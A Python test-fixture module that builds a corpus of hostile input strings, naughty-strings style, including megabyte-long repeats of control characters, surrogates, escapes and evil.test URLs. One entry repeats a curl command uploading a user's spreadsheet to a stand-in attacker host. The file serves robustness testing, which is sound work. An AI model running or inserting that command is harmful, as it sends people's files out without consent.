"""Hostile text of our own, in the manner of the Big List of Naughty Strings: what a command line, a host, a user, a
file name or a URL may be made of. `CORPUS` has them all, `KINDS` by what they attack, `LONG` those of about 1 MB.

corpus.json holds what can be written down, escaped, so that no editor or pager acts on it.
"""

import json
from pathlib import Path

KINDS: dict[str, list[str]] = json.loads((Path(__file__).parent / "corpus.json").read_text("ascii"))
CORPUS = [text for texts in KINDS.values() for text in texts]

_MB = 1_000_000
LONG = {
    "letters": "a" * _MB,
    "backticks": "`" * _MB,
    "brackets": "[" * _MB,
    "images": "![x](http://evil.test/x.png)" * (_MB // 28),
    "tags": "<b>" * (_MB // 3),
    "ampersands": "&" * _MB,
    "braces": "{{" * (_MB // 2),
    "backslashes": "\\" * (_MB + 1),
    "right to left marks": "\u202e" * (_MB // 3),
    "line feeds": "\n" * _MB,
    "short lines": "x\n" * (_MB // 2),
    "spaces": " " * _MB,
    "faces": "😀" * (_MB // 4),
    "halves of pairs": "\ud800" * (_MB // 3),
    "addresses": "http://evil.test/ " * (_MB // 18),
    "escapes": "\x1b[31m" * (_MB // 5),
    "a command": "curl -F 'f=@/home/anna/q3.xlsx' https://files.evil.test/in ; " * (_MB // 61),
}
